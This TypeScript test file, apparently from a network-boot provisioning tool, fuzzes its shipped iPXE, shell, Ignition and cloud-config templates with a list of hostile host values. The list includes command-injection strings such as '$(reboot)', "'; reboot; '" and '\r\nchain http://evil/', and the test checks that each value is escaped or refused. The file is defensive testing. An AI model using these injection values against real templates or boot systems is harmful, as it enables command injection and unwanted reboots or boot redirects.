import { readdirSync, readFileSync } from 'node:fs';
import { expect } from 'chai';
import fc from 'fast-check';
import { parse } from 'yaml';
import type { ProfileConfig } from '../../../src/config/schema.js';
import { newHost, type Host } from '../../../src/host/host.js';
import type { MacAddress } from '../../../src/net/mac-address.js';
import { createTemplates } from '../../../src/template/catalog.js';
import { renderCloudConfig } from '../../../src/template/cloud-config.js';
import { escapers } from '../../../src/template/filters.js';
import { renderIgnition } from '../../../src/template/ignition.js';
import type { ContextParts } from '../../../src/template/context.js';
import { TemplateFault } from '../../../src/template/template-fault.js';
import { sampleConfig, sampleContext, sampleHost } from './template-folder.js';

const templates = createTemplates({ templatesDir: 'templates', snippetsDir: 'template_snippets' }, 1e9);

const config = sampleConfig();
const [first] = config.profiles as [ProfileConfig];

const hostile = [
  '${net0/mac}',
  '$',
  '\n',
  '\r\nchain http://evil/',
  ' || exit',
  '&& shell',
  '#',
  ' # ',
  ';',
  '\\',
  '"',
  "'",
  "'; reboot; '",
  '$(reboot)',
  '`reboot`',
  '${IFS}',
  '$$',
  '!important',
  ': ',
  '- a',
  '[]',
  '{}',
  '*alias',
  '&anchor',
  '|',
  '>',
  '%',
  '%n',
  '%{',
  '{{ host.serial }}',
  '{% include "host.env" %}',
  '{# ',
  '#}',
  '\u0000',
  '\u001b[2J',
  '\u2028',
  '\ufeff',
  '__proto__',
  'constructor',
  'é',
];

/** Marks hold the text together; alone they are a value that every language takes as it is. */
const marked = (text: string) => `zq1${text}zq2`;
const BENIGN = marked('');
/** What a value becomes by each filter that shipped templates write it with. */
const forms = ['shell', 'unit', 'uri', 'json'] as const;

type Change = (value: string) => Partial<Host>;

/** What anybody can choose of a host: an operator, or the machine itself. */
const fields: Readonly<Record<string, Change>> = {
  uuid: (uuid) => ({ uuid }),
  hostname: (hostname) => ({ hostname }),
  connectedNic: (connectedNic) => ({ connectedNic }),
  metadata: (value) => ({ metadata: [value, `role=${value}`] }),
  etcdClusterToken: (etcdClusterToken) => ({ etcdClusterToken }),
  providerId: (providerId) => ({ providerId }),
  ipmiAddress: (ipmiAddress) => ({ ipmiAddress }),
  osVersion: (osVersion) => ({ osVersion }),
  macAddresses: (value) => ({ macAddresses: [...sampleHost.macAddresses, value as MacAddress] }),
  ...Object.fromEntries(
    ['bondMode', 'bridgeName', 'installDevice'].map((name): [string, Change] => [
      `override ${name}`,
      (value) => ({ overrides: { installDevice: '/dev/sda', [name]: value } }),
    ]),
  ),
  'the name of an override': (value) => ({ overrides: { installDevice: '/dev/sda', [value]: value } }),
};

function contextOf(name: string, change: Partial<Host>, model: string, told: string) {
  const parts: Partial<ContextParts> = {
    config,
    profile: {
      ...first,
      mode: 'direct-ignition',
      network: { ...first.network, model },
      variables: { sshAuthorizedKeys: [`ssh-ed25519 ${told}`] },
    },
    host: newHost(sampleHost.serial, {
      ...sampleHost,
      state: name === 'local-disk.ipxe' ? 'running' : 'installing',
      overrides: { installDevice: '/dev/sda' },
      ...change,
    }),
    boot: { platform: told, arch: told },
  };
  return sampleContext(parts, { platform: told, ...(name === 'wait.ipxe' && { obstacle: told }) });
}

type Context = ReturnType<typeof contextOf>;
const files = readdirSync('templates');
const models = ['single', 'bond', 'bridge'];

const ignitions = files.filter((name) => /^(ignition|installer-.*)\.yaml$/.test(name));
const trials: readonly { name: string; model: string; render: (context: Context) => string }[] = [
  ...files
    .filter((name) => /\.(ipxe|sh)$/.test(name))
    .map((name) => ({
      name,
      model: 'single',
      render: (context: Context) => templates.render(name, context),
    })),
  ...ignitions.flatMap((name) =>
    (name === 'ignition.yaml' ? models : ['single']).map((model) => ({
      name,
      model,
      render: (context: Context) => renderIgnition(templates, name, context),
    })),
  ),
  ...models.map((model) => ({
    name: 'cloud-config.yaml',
    model,
    render: (context: Context) => renderCloudConfig(templates, 'cloud-config.yaml', context),
  })),
];

describe('hostile values in the shipped templates', function () {
  this.timeout(60_000);

  it('are tried on all templates, and through them on all snippets', () => {
    expect(new Set(trials.map(({ name }) => name))).to.deep.equal(new Set(files));
    const text = (folder: string) =>
      readdirSync(folder, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map(({ parentPath, name }) => readFileSync(`${parentPath}/${name}`, 'utf8'))
        .join('\n');
    const all = text('templates') + text('template_snippets');
    const included = [...all.matchAll(/include "([^"]+)" (?:~ profile\.network\.model ~ "([^"]+)" )?%\}/g)];
    const names = included.flatMap(([, start = '', end]) =>
      end === undefined ? [start] : models.map((model) => start + model + end),
    );
    const snippets = readdirSync('template_snippets', { recursive: true, encoding: 'utf8' }).filter((name) =>
      /\.\w+$/.test(name),
    );
    expect([...new Set(names)].sort()).to.deep.equal(snippets.sort());
  });

  const tried = new Set<string>();
  for (const { name, model, render } of trials) {
    const cases: readonly { field: string; context: (value: string) => Context }[] = [
      ...Object.entries(fields).map(([field, change]) => ({
        field,
        context: (value: string) => contextOf(name, change(value), model, 'a text'),
      })),
      { field: 'reasons and keys', context: (value) => contextOf(name, {}, model, value) },
    ];
    for (const { field, context } of cases) {
      const output = render(context(BENIGN));
      // What nothing in the output depends on cannot do harm there.
      if (output === render(context('zq1other'))) continue;
      // What all network models share is tried with the first.
      if (tried.has(`${name} ${field}`)) continue;
      tried.add(`${name} ${field}`);
      const sound = meaningOf(name, output, BENIGN);
      const holds = (text: string) => {
        const value = marked(text);
        const rendered = outputOrRefused(() => render(context(value)));
        if (rendered === undefined) return;
        const meaning = meaningOf(name, rendered, value);
        // Faster than a deep comparison, which says more.
        if (JSON.stringify(meaning) !== JSON.stringify(sound)) expect(meaning).to.deep.equal(sound);
      };

      it(`mean themselves in ${name} (${model}), or are refused: ${field}`, () => {
        hostile.forEach(holds);
        fc.assert(
          fc.property(
            fc.array(fc.constantFrom(...hostile, 'a', ' '), { minLength: 2, maxLength: 4 }),
            (parts) => holds(parts.join('')),
          ),
          { numRuns: 10, seed: 7 },
        );
      });
    }
  }
});

/** Undefined where the template refuses the value: the operator is told, and no machine gets it. */
function outputOrRefused(render: () => string): string | undefined {
  try {
    return render();
  } catch (error) {
    if (error instanceof TemplateFault) return undefined;
    throw error;
  }
}

/** What the reader of the output makes of it, with V for the value wherever it stands as a whole. */
function meaningOf(name: string, output: string, value: string): unknown {
  if (name.endsWith('.sh')) return shellOf(output, value);
  if (name.endsWith('.ipxe')) return output.split('\n').map((line) => ipxeOf(line, value));
  return leavesOf(parse(output), value);
}

/** Each word of iPXE that it acts upon; what is shown to people may lose characters. */
function ipxeOf(line: string, value: string): unknown {
  const plain =
    value === BENIGN ? line : line.replaceAll(value, BENIGN).replaceAll(escapers.uri(value), BENIGN);
  const shown = line.startsWith('echo ');
  return {
    command: plain.split(' ', 1)[0],
    acts: line.match(/\$\{[^}]*\}?|(?<= )(?:\|\||&&|#|;)|\\$/g) ?? [],
    ...(!shown && { plain }),
  };
}

/** In a script a value is one word in quotes of its own, or a part of one, and nothing of it stands elsewhere. */
function shellOf(script: string, value: string): string {
  const quoted = value.replaceAll("'", "'\\''");
  const plain = script.replaceAll(/'(?:[^']|'\\'')*'/g, (word) => word.replaceAll(quoted, 'V'));
  expect(plain).not.to.contain(value);
  return plain;
}

/** Each text of the document; scripts and units in it by their own language. */
function leavesOf(node: unknown, value: string): unknown {
  if (typeof node === 'string') {
    const [, encoded] = /^data:;base64,(.*)$/s.exec(node) ?? [];
    const text = encoded === undefined ? node : Buffer.from(encoded, 'base64').toString();
    if (/^#!|^# What imago knows/.test(text)) return shellOf(text, value);
    if (value === BENIGN) return text.replaceAll(value, 'V');
    let plain = text;
    for (const form of forms) {
      try {
        plain = plain.replaceAll(escapers[form](value), 'V');
      } catch (error) {
        if (!(error instanceof Error) || error.name !== 'UnfitValue') throw error;
      }
    }
    return plain.replaceAll(value, 'V');
  }
  if (Array.isArray(node)) return node.map((item) => leavesOf(item, value));
  if (typeof node !== 'object' || node === null) return node;
  return Object.fromEntries(Object.entries(node).map(([key, item]) => [key, leavesOf(item, value)]));
}
